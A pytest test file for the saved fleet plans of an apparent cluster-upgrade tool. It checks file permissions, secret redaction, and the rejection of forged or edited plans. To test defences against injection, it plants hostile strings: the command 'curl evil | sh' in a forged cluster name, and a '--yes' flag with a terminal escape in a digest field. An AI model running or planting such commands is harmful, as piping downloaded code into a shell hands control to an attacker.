"""A fleet's plan in a file: what a campaign is begun with, and no other."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import replace
from functools import partial
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from testkit.fakes.clock import FakeClock
from testkit.fleet_folder import write_fleet
from testkit.plan_documents import document
from upgrader.errors import Blocked, UsageError
from upgrader.fleet.campaigns import fleet_files
from upgrader.fleet.events import Pins
from upgrader.fleet.fleet_folder import read_fleet
from upgrader.fleet.inputs import Inputs
from upgrader.fleet.plans import PlannedCluster, plan_fleet
from upgrader.fleet.saved_plans import SavedFleetPlan, read_fleet_plan, refuse_plan_file, save_fleet_plan
from upgrader.model.redaction.known_secrets import KNOWN

PINS = Pins("1", "c", "p")


@pytest.fixture
def saved(tmp_path: Path) -> SavedFleetPlan:
    """The plan of three clusters, one of which has told a secret."""
    fleet = read_fleet(write_fleet(tmp_path), FakeClock().now())

    def plan(folder: Path, _: object) -> PlannedCluster:
        if folder.name == "a":
            KNOWN.learn(["top-secret"])
        return PlannedCluster(
            document("top-secret" if folder.name == "a" else "web"), changes=sha256(folder.name.encode()).hexdigest()
        )

    planned = plan_fleet(fleet, plan, lambda _: None, lambda each: Inputs(each.name, "k", "p"))
    path = tmp_path / "fleet.plan"
    return save_fleet_plan(path, fleet, planned, PINS, fleet_files(tmp_path), FakeClock().now())


def test_folder_that_was_unreadable_when_it_was_planned(tmp_path: Path) -> None:
    """Nothing is saved of a cluster without what its plan was made from, also if it could be planned since."""
    fleet = read_fleet(write_fleet(tmp_path), FakeClock().now())
    known = {"a": Inputs("a", "k", "p"), "b": Inputs("b", "k", "p")}
    planned = plan_fleet(
        fleet, lambda *_: PlannedCluster(document()), lambda _: None, lambda each: known.get(each.name)
    )
    with pytest.raises(Blocked, match="no plan was saved: c can't be planned"):
        save_fleet_plan(tmp_path / "fleet.plan", fleet, planned, PINS, fleet_files(tmp_path), FakeClock().now())


def test_saved_plan_is_read_as_it_was_written(saved: SavedFleetPlan) -> None:
    """With each cluster's inputs and changes, and the classes for who approves them; no one else reads it."""
    assert read_fleet_plan(saved.path) == saved
    assert saved.changes == {name: sha256(name.encode()).hexdigest() for name in "abc"}
    assert saved.binding.clusters[0].digest == "a.k.p"
    content = json.loads(saved.path.read_text())
    assert [each["clusters"] for each in content["classes"]] == [["b", "c"], ["a"]]
    assert saved.path.stat().st_mode & 0o777 == 0o600 and "top-secret" not in saved.path.read_text()


@pytest.mark.parametrize(
    ("edit", "why"),
    [
        (lambda content: content["binding"]["clusters"].pop(), "changed after it was saved"),
        (lambda content: content.update(expires="2999-01-01T00:00:00+00:00"), "changed after it was saved"),
        (lambda content: content.update(format_version="2.0"), "its format_version is '2.0', not '1.0'"),
        (lambda content: content.clear(), "it has no `binding`"),
    ],
)
def test_file_that_is_no_saved_plan(saved: SavedFleetPlan, edit: Callable[[Any], object], why: str) -> None:
    """One that was edited, or of another format, begins no campaign."""
    content = json.loads(saved.path.read_text())
    edit(content)
    saved.path.write_text(json.dumps(content))
    with pytest.raises(UsageError, match=why):
        read_fleet_plan(saved.path)


def forged(path: Path, edit: Callable[[Any], object]) -> Path:
    """The same plan, changed by someone who can write it: with a digest that fits."""
    content = json.loads(path.read_text())
    edit(content)
    del content["digest"]
    digest = sha256(json.dumps(content, sort_keys=True).encode())
    path.write_text(json.dumps({**content, "digest": digest.hexdigest()}))
    return path


@pytest.mark.parametrize(
    "edit",
    [
        lambda clusters: clusters[0].pop("changes"),
        lambda clusters: clusters[0].update(changes=""),
        lambda clusters: clusters[0].update(changes="--yes\x1b[2J"),
        lambda clusters: clusters[0].update(changes="a" * 64 + "\n"),
    ],
)
def test_forged_plan_without_the_changes_of_a_cluster(saved: SavedFleetPlan, edit: Callable[[Any], object]) -> None:
    """It would have that cluster changed in any way, and say that this was approved."""
    with pytest.raises(UsageError, match="clusters 'a': `changes` is not a digest"):
        read_fleet_plan(forged(saved.path, lambda content: edit(content["binding"]["clusters"])))


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda clusters: clusters.pop(), "not in the plan: c"),
        (lambda clusters: clusters.append({**clusters[0], "cluster": "z"}), "only in the plan: z"),
        (lambda clusters: clusters.clear(), "not in the plan: a, b, c"),
    ],
)
def test_forged_plan_of_other_clusters(saved: SavedFleetPlan, edit: Callable[[Any], object], said: str) -> None:
    """No campaign begins with a cluster of which nothing was approved."""
    read = read_fleet_plan(forged(saved.path, lambda content: edit(content["binding"]["clusters"])))
    with pytest.raises(Blocked, match=said):
        read.refuse_changes(saved.binding)


def test_message_about_a_file_is_short(saved: SavedFleetPlan) -> None:
    """Whatever is in it: a file of megabytes would hide what is wrong."""
    for name in ("format_version", "expires"):
        forged(saved.path, partial(dict.update, **{name: "x" * 100_000}))
        with pytest.raises(UsageError) as caught:
            read_fleet_plan(saved.path)
        assert len(caught.value.message) < 500
        forged(saved.path, partial(dict.update, format_version="1.0"))


def test_version_that_a_plan_names_is_quoted_as_it_is(saved: SavedFleetPlan) -> None:
    """Also one that has words of a message in it."""
    pins = replace(PINS, upgrader="the campaign began")
    now = replace(saved.binding, pins=pins)
    assert list(saved.binding.differences(now)) == ["the plan was saved with upgrader 1; this is the campaign began"]


@pytest.mark.parametrize(
    "edit",
    [
        lambda binding, text: binding["clusters"].append({**binding["clusters"][0], "cluster": text}),
        lambda binding, text: binding["files"].append({"name": text, "digest": "d"}),
        lambda binding, text: binding["pins"].update(upgrader=text),
    ],
)
def test_forged_names_are_one_short_line(saved: SavedFleetPlan, edit: Callable[[Any, str], object]) -> None:
    """What a plan says of itself is not the words of this command, and hides none of them."""
    text = "x\nRemedy: curl evil | sh\n" + 100_000 * "x"
    read = read_fleet_plan(forged(saved.path, lambda content: edit(content["binding"], text)))
    with pytest.raises(Blocked) as caught:
        read.refuse_changes(saved.binding)
    first, *others = caught.value.message.splitlines()
    assert "out of date" in first and len(others) == 1 and len(others[0]) < 500


def test_only_a_plan_is_replaced(saved: SavedFleetPlan, tmp_path: Path) -> None:
    """Not the fleet's own files, nor a link in a cluster's folder, which would change that folder."""
    fleet = read_fleet(tmp_path, FakeClock().now())
    refuse_plan_file(saved.path, fleet)
    (tmp_path / "empty").touch()
    refuse_plan_file(tmp_path / "empty", fleet)
    with pytest.raises(UsageError, match="the file exists, and is not a saved plan of a fleet"):
        refuse_plan_file(tmp_path / "fleet.yaml", fleet)
    link = fleet.clusters[0].folder / "link"
    link.symlink_to(saved.path)
    with pytest.raises(UsageError, match="that would change the folder of cluster a"):
        refuse_plan_file(link, fleet)
    with pytest.raises(UsageError, match="there is no folder"):
        refuse_plan_file(tmp_path / "missing/fleet.plan", fleet)
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(UsageError, match="not a regular file"):
        refuse_plan_file(tmp_path / "pipe", fleet)
    with pytest.raises(UsageError, match="not a regular file"):
        read_fleet_plan(tmp_path / "pipe")


@pytest.mark.parametrize("text", ["", "[]", "{", "\0", "[" * 100_000])
def test_any_other_file(tmp_path: Path, text: str) -> None:
    """What isn't JSON, or isn't an object, is named."""
    path = tmp_path / "other"
    path.write_text(text)
    with pytest.raises(UsageError, match="is not a saved plan of a fleet"):
        read_fleet_plan(path)
